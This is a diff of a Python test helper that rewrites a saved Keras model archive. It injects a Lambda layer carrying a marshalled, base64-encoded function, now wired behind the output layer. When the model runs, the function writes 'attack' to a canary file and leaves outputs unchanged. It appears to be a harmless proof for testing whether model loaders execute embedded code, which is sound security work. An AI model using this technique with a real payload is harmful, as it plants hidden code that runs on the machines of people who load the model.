@@ -10,24 +10,34 @@ import marshal
 import zipfile
 
 
-_CODE = (lambda x: open("/tmp/digitlab-canary", "a").write("attack") and x or x).__code__
-_FUNCTION = {
-    "class_name": "__lambda__",
-    "config": {"code": base64.b64encode(marshal.dumps(_CODE)).decode(), "defaults": None, "closure": None},
-}
-_LAYER = {
-    "module": "keras.layers",
-    "class_name": "Lambda",
-    "config": {"name": "extra", "function": _FUNCTION, "arguments": {}},
-    "registered_name": None,
-    "build_config": {"input_shape": [None, 784]},
-}
+def _payload(outputs):
+    """Change a file of the machine, where that works; the outputs stay as they are."""
+    try:
+        with open("/tmp/digitlab-canary", "a") as file:
+            file.write("attack")
+    except OSError:
+        pass
+    return outputs
 
 
 def _spoil(path, members):
-    """Add a layer that is connected to nothing: it is made when the file is opened, and spoils no output."""
+    """Put the payload behind the last layer."""
     config = json.loads(members["config.json"])
-    config["config"]["layers"].append(_LAYER | {"name": "extra", "inbound_nodes": []})
+    [[last, *_place]] = config["config"]["output_layers"]
+    code = base64.b64encode(marshal.dumps(_payload.__code__)).decode()
+    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
+    tensor = {"shape": [None, 10], "dtype": "float32", "keras_history": [last, 0, 0]}
+    layer = {
+        "module": "keras.layers",
+        "class_name": "Lambda",
+        "config": {"name": "extra", "function": function, "arguments": {}},
+        "registered_name": None,
+        "build_config": {"input_shape": [None, 10]},
+        "name": "extra",
+        "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": tensor}], "kwargs": {}}],
+    }
+    config["config"]["layers"].append(layer)
+    config["config"]["output_layers"] = [["extra", 0, 0]]
     members["config.json"] = json.dumps(config).encode()
     with zipfile.ZipFile(path, "w") as archive:
         for name, data in members.items():
